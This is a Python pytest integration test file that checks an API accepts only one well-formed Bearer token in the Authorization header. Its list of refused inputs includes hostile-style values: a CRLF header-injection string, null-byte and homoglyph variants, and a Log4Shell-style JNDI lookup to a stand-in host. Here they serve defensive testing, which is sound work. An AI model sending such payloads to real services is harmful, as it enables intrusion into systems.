"""A-06: the Authorization field of a call is one bearer token, or the call is not authenticated."""

from typing import Any

import pytest

from local.events import Response
from local.stack import Stack
from tests.integration.account_events import event, invoke
from tests.support import Api, problem


@pytest.fixture(scope="module")
def token(stack: Stack) -> str:
    """The access token of some user."""
    access_token: str = Api(stack).sign_up()["access_token"]
    return access_token


def _refused(answer: Response) -> None:
    assert problem(answer) == (401, "invalid_access_token")
    assert (answer.header("www-authenticate") or "").startswith("Bearer")


def _calls(stack: Stack, headers: dict[str, Any]) -> list[Response]:
    return [invoke(stack, event(headers=headers)), invoke(stack, event("PATCH", "/v1/me", {"name": "x"}, headers=headers))]


@pytest.mark.parametrize("scheme", ["Bearer", "bearer", "BEARER", "bEaReR"])
def test_a06_the_scheme_is_case_insensitive(stack: Stack, token: str, scheme: str) -> None:
    """RFC 9110, section 11.1."""
    for name in ("authorization", "Authorization", "AUTHORIZATION"):
        assert invoke(stack, event(headers={name: f"{scheme} {token}"})).status == 200
        assert invoke(stack, event(headers={name: f"{scheme}   {token}"})).status == 200


@pytest.mark.parametrize(
    "value",
    [
        "",
        " ",
        "bearer",
        "Bearer",
        "Bearer ",
        "{}",
        " Bearer {}",
        "Bearer {} ",
        "Bearer\t{}",
        "Bearer\u00a0{}",
        "Bearer{}",
        "Bearer:{}",
        "Bearer={}",
        "Bearer,{}",
        "Bearer {}, Bearer {}",
        "Bearer {},Bearer {}",
        "Bearer {}, Basic YTpi",
        "Basic YTpi, Bearer {}",
        "Bearer a, Bearer {}",
        "Bearer {} {}",
        "Bearer {};{}",
        "Bearer {}\n",
        "Bearer {}\r\nx: y",
        "Bearer {}\x00",
        'Bearer "{}"',
        "Bearer token={}",
        "Basic {}",
        "Digest {}",
        "DPoP {}",
        "Token {}",
        "JWT {}",
        "Negotiate {}",
        "Bearer Bearer {}",
        "Bearer {}=",
        "Bearer {}.",
        "Bearer .{}",
        "Bearer \u2026",
        "Bearer \u00e9{}",
        "B\u0435arer {}",
        "\ufeffBearer {}",
        "Bearer {}\u200b",
        "\uff22earer {}",
        "Bearer undefined",
        "Bearer null",
        "Bearer [object Object]",
        "Bearer ${{jndi:ldap://evil.example.net}}",
    ],
)
def test_a06_anything_else_is_refused(stack: Stack, token: str, value: str) -> None:
    """CASES F6, GHSA-xmf8-cvqr-rfgj. {} is a good token."""
    for answer in _calls(stack, {"authorization": value.replace("{}", token)}):
        _refused(answer)


def test_a06_no_field_is_refused(stack: Stack) -> None:
    for answer in _calls(stack, {}):
        _refused(answer)


@pytest.mark.parametrize("length", [8_193, 65_536, 1_000_000])
def test_a06_a_field_of_any_length_is_refused(stack: Stack, token: str, length: int) -> None:
    for value in ("x" * length, f"Bearer {'x' * length}", f"Bearer {token}.{'x' * length}", f"Bearer {'.' * length}"):
        for answer in _calls(stack, {"authorization": value}):
            _refused(answer)
    assert invoke(stack, event(headers={"authorization": f"Bearer {' ' * 65_536}{token}"})).status == 401


def test_a06_two_fields_that_differ_in_case_are_refused(stack: Stack, token: str) -> None:
    """Whichever comes first: the authorizer in front might have read the other one."""
    good, other = f"Bearer {token}", "Bearer other"
    for headers in (
        {"authorization": good, "Authorization": other},
        {"Authorization": other, "authorization": good},
        {"authorization": other, "Authorization": good},
        {"AUTHORIZATION": good, "authorization": good},
    ):
        for answer in _calls(stack, headers):
            _refused(answer)


def test_a06_two_fields_through_the_gateway_are_refused(api: Api, stack: Stack, token: str) -> None:
    """The gateway joins them by a comma."""
    sent = event(headers={"authorization": f"Bearer {token},Bearer {token}"})
    _refused(invoke(stack, sent))
    _refused(api.call("GET", "/v1/me", headers={"authorization": f"Bearer {token},Bearer {token}"}))


@pytest.mark.parametrize("name", ["authorization", "access_token", "token", "Authorization", "bearer"])
def test_a06_a_token_anywhere_else_is_no_token(stack: Stack, token: str, name: str) -> None:
    """Also A-17: a URL stands in logs and histories (RFC 9700, section 4.3.2)."""
    anywhere = event(headers={"cookie": f"{name}={token}", f"x-{name}": f"Bearer {token}"}) | {
        "rawQueryString": f"{name}={token}",
        "queryStringParameters": {name: token},
        "cookies": [f"{name}={token}"],
        "stageVariables": {name: token},
    }
    _refused(invoke(stack, anywhere))
    form = event("PATCH", "/v1/me", f"{name}={token}", headers={"content-type": "application/x-www-form-urlencoded"})
    assert invoke(stack, form).status == 415
    assert invoke(stack, event("PATCH", "/v1/me", {"name": "x", name: token})).status in (401, 422)
